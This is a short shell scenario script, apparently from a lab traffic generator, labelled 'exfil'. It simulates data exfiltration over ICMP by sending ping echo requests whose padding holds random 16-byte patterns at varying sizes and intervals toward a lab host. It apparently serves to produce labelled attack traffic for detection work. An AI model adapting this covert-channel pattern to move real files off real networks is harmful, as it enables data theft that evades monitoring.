# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-ping
# needs: ping
# seconds: 120
# A file in echo requests, 16 bytes or a whole packet at a time.
. $lab/victims.sh

scenario() {
	_gap=$(choose 0.1 0.3 1)
	_size=$(choose 64 300 1000)
	setting options "every $_gap s, $_size bytes and more"
	# shellcheck disable=SC2016
	attack c s icmp 0 -- timeout 90 sh -c 'n=0; while :; do
		n=$(((n * 13 + 7) % 97))
		ping -q -c 8 -i "$2" -s "$(($3 + n))" \
			-p "$(head -c 16 /dev/urandom | od -An -tx1 | tr -d " \n")" "$1"
		done' sh "$(addr s)" "$_gap" "$_size"
}
